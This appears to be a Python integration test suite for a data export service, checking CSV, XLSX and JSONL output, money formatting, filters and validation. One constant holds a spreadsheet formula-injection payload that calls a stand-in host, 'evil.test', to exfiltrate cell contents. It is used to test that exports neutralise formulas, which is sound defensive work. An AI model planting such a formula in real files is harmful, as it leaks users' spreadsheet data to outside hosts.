"""What is in the files: every format, of several resources, as it was asked for."""

import json
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest

from functions.exports.models import Export
from functions.invoices.models import Balance, balance_id
from functions.payments.models import Transaction
from functions.plans.models import Plan
from functions.settings.models import TaxRate
from kernel import ids
from kernel.clock import frozen
from tests.callers import ask
from tests.integration.exports.company import AT, content, event, exported, request, requested, run, sheet, store, table, tenants

pytestmark = pytest.mark.usefixtures("aws")
EVIL = '=HYPERLINK("http://evil.test?"&A1)'


def a_balance(amount, currency="EUR"):
    tenant = ids.new("ten")
    return Balance(balance_id(tenant, currency), tenant_id=tenant, amount=amount, currency=currency)


def test_a_csv_file_is_as_rfc_4180_wants_it_with_a_mark_for_excel(owner):
    tenants(1, name='Say "hi", please\nnow')
    found = content(exported(owner, columns=["name", "vat_id_valid", "vat_id", "version", "created_at"]))
    assert found == (b'\xef\xbb\xbfName,VAT ID valid,VAT ID,Version,Created at\r\n'
                     b'"Say ""hi"", please\nnow",FALSE,,1,2026-01-31T12:00:00.000000Z\r\n')


def test_money_is_exact_in_major_units_beside_its_currency(owner):
    store(*(a_balance(amount, code) for amount, code in ((4900, "EUR"), (-5, "EUR"), (10**14, "EUR"), (500, "JPY"), (1234, "KWD"))))
    rows = table(exported(owner, "invoices/balances", columns=["amount", "id"]))
    assert rows[0] == ["Amount", "Amount (Currency)", "ID"]
    assert {(row[0], row[1]) for row in rows[1:]} == {
        ("49.00", "EUR"), ("-0.05", "EUR"), ("1000000000000.00", "EUR"), ("500", "JPY"), ("1.234", "KWD")}
    cells = sheet(exported(owner, "invoices/balances", format="xlsx", columns=["amount"]))[1:]
    assert {cell[0].data_type for cell in cells} == {"n"}
    assert sorted(Decimal(str(cell[0].value)) for cell in cells) == [
        Decimal(each) for each in ("-0.05", "1.234", "49", "500", "1000000000000")]


def test_no_text_becomes_a_formula_where_a_program_splits_lines_at_semicolons(owner):
    tenants(1, name="Acme;=1+1")
    assert table(exported(owner, columns=["name"]))[1] == ["Acme;'=1+1"]
    [cell] = sheet(exported(owner, columns=["name"], format="xlsx"))[1]
    assert cell.value == "Acme;=1+1"


def test_minus_five_stays_a_number_and_the_text_of_it_does_not(owner):
    store(Transaction(ids.new("txn"), tenant_id="ten_1", kind="charge", status="succeeded", amount=100, currency="EUR", attempt=1,
                      fee=-5, reason="-5"))
    assert table(exported(owner, "transactions", columns=["fee", "reason", "amount"]))[1] == ["-5", "'-5", "1.00", "EUR"]
    [fee, reason, *_] = sheet(exported(owner, "transactions", format="xlsx", columns=["fee", "reason"]))[1]
    assert (fee.value, fee.data_type, reason.value, reason.data_type) == (-5, "n", "'-5", "s")


@pytest.mark.parametrize("name", [EVIL, "#N/A", "＝1+1", "  +49", "@SUM(A1)"])
def test_no_text_is_a_formula(owner, name):
    tenants(1, name=name)
    assert table(exported(owner, columns=["name"]))[1] == ["'" + name]
    [cell] = sheet(exported(owner, columns=["name"], format="xlsx"))[1]
    assert (cell.data_type, cell.value) == ("s", "'" + name)
    [line] = content(exported(owner, columns=["name"], format="jsonl")).decode().splitlines()
    assert json.loads(line) == {"name": name}


def test_what_is_nested_is_compact_json(owner):
    store(Plan(ids.new("pln"), name="Pro", limits={"users": 5, "api": 10}, features=["sso", "=1"]))
    row = table(exported(owner, "plans", columns=["limits", "features", "extra"]))[1]
    assert row == ['{"api":10,"users":5}', '["sso","=1"]', "{}"]


def test_a_workbook_has_dates_booleans_and_a_header_that_stays(owner):
    tenants(1)
    header, row = sheet(exported(owner, format="xlsx", columns=["created_at", "vat_id_valid", "deleted_at", "version"]))
    assert [cell.value for cell in row] == [datetime(2026, 1, 31, 12), False, None, 1]
    assert row[0].number_format == "yyyy-mm-dd h:mm:ss" and header[0].font.bold and header[0].parent.freeze_panes == "A2"


def test_json_lines_are_what_the_api_shows(owner):
    from functions.tenants.api import handler

    tenants(3)
    shown = ask(handler, "GET", "/v1/tenants", headers=owner).body["data"]
    assert [json.loads(line) for line in content(exported(owner, format="jsonl")).decode().splitlines()] == shown


def test_headers_are_in_the_language_asked_for(owner):
    tenants(1)
    wanted = ["id", "email", "vat_id", "owner_id", "address"]
    assert table(exported(owner, columns=wanted))[0] == ["ID", "Email", "VAT ID", "Owner ID", "Address"]
    assert table(exported(owner, columns=wanted, language="de"))[0] == ["ID", "E-Mail", "USt-IdNr.", "Zuständig (ID)", "Adresse"]


def test_filter_and_sort_are_the_lists_own_and_deleted_rows_are_left_out(owner):
    tenants(2, name="B")
    tenants(1, name="A")
    tenants(1, name="C", status="suspended")
    tenants(1, name="D", deleted_at=AT)
    found = table(exported(owner, columns=["name"], filter={"status": "active"}, sort="name"))
    assert found[1:] == [["A"], ["B"], ["B"]]
    assert len(table(exported(owner, columns=["name"], filter={"created_at__gte": "2026-01-31T12:00:01Z"}))) == 2
    assert len(table(exported(owner, columns=["name"], filter={"status": "active,suspended"}))) == 5


def test_nothing_found_is_a_file_with_nothing_but_its_header(owner):
    assert content(exported(owner, columns=["name"])) == b"\xef\xbb\xbfName\r\n"
    assert content(exported(owner, columns=["name"], format="jsonl")) == b""
    assert len(sheet(exported(owner, columns=["name"], format="xlsx"))) == 1


@pytest.mark.parametrize(("resource", "kind"), [("plans", Plan), ("settings/tax-rates", TaxRate)])
def test_other_resources_are_exported_too(owner, resource, kind):
    facts = {"name": "Pro"} if kind is Plan else {"country": "DE", "percent": "19"}
    store(kind(ids.new(kind.prefix), **facts))
    export = exported(owner, resource)
    assert (export.status, export.rows, len(table(export))) == ("done", 1, 2)


@pytest.mark.parametrize(("body", "status", "field"), [
    ({"columns": ["id", "nope"]}, 422, "columns.1"), ({"columns": ["id", "id"]}, 422, "columns.1"), ({"columns": []}, 422, "columns"),
    ({"format": "pdf"}, 422, "format"), ({"language": "fr"}, 422, "language"), ({"more": 1}, 422, "more"),
    ({"filter": {"nope": "1"}}, 400, "filter.nope"), ({"filter": {"q": "acme"}}, 400, "filter.q"), ({"filter": {"status": "zzz"}}, 400, "filter.status"),
    ({"filter": {"include_deleted": True}}, 400, "filter.include_deleted"), ({"filter": {"created_at__gte": "soon"}}, 400, "filter.created_at"),
    ({"sort": "nope"}, 400, "sort")])
def test_what_cannot_be_exported_is_refused_before_there_is_a_job(owner, body, status, field):
    answer = request(owner, **body)
    assert (answer.status, answer.body["errors"][0]["field"].split("__")[0]) == (status, field.split("__")[0]), answer.body
    from functions.exports.api import handler

    assert ask(handler, "GET", "/v1/exports", headers=owner).body["data"] == []


def test_a_text_longer_than_a_cell_ends_with_a_sign_that_it_goes_on(owner):
    store(Plan(ids.new("pln"), name="Pro", features=["x" * 40_000]))
    [cell] = sheet(exported(owner, "plans", format="xlsx", columns=["features"]))[1]
    assert (len(cell.value), cell.value[-1]) == (32_767, "…")
    assert len(table(exported(owner, "plans", columns=["features"]))[1][0]) == 40_004


def test_more_rows_than_a_sheet_has_fail_with_the_way_out(owner, monkeypatch):
    monkeypatch.setattr("functions.exports.formats.MAX_ROWS", 3)
    tenants(3)
    assert exported(owner, format="xlsx").status == "done"
    tenants(1)
    export = exported(owner, format="xlsx")
    assert (export.status, export.error["status"], export.error["code"]) == ("failed", 422, "too_many_rows")
    assert "csv" in export.error["detail"]
    assert exported(owner).rows == 4


def test_a_relative_time_counts_from_when_it_was_asked_for(owner):
    store(Plan(ids.new("pln"), name="Old", created_at=AT - timedelta(days=20)), Plan(ids.new("pln"), name="Young", created_at=AT))
    with frozen(AT + timedelta(days=10)):
        id = requested(owner, "plans", columns=["name"], filter={"created_at__gte": "-15d"})
    with frozen(AT + timedelta(days=60)):
        assert run(event(id)) == []
        assert table(Export.fetch(id)) == [["Name"], ["Young"]]


def test_what_no_path_has_in_order_is_sorted_as_far_as_memory_goes(owner, monkeypatch):
    for letter in "bca":
        tenants(1, email=f"{letter}@example.test")
    found = table(exported(owner, columns=["email"], sort="email"))
    assert [row[0][0] for row in found[1:]] == ["a", "b", "c"]
    monkeypatch.setattr("kernel.query.SORTED_STREAM", 1)
    export = exported(owner, sort="email")
    assert (export.status, export.error["code"]) == ("failed", "sort_needs_narrower_filter")


def test_a_file_goes_through_all_months(owner):
    made = [Transaction(ids.new("txn"), tenant_id="ten_1", kind="charge", status="succeeded", amount=n, currency="JPY", attempt=1,
                        created_at=datetime(2024 + n // 12, n % 12 + 1, 1, tzinfo=UTC)) for n in range(14)]
    store(*made)
    assert [row[0] for row in table(exported(owner, "transactions", columns=["amount"]))[1:]] == [str(n) for n in range(13, -1, -1)]
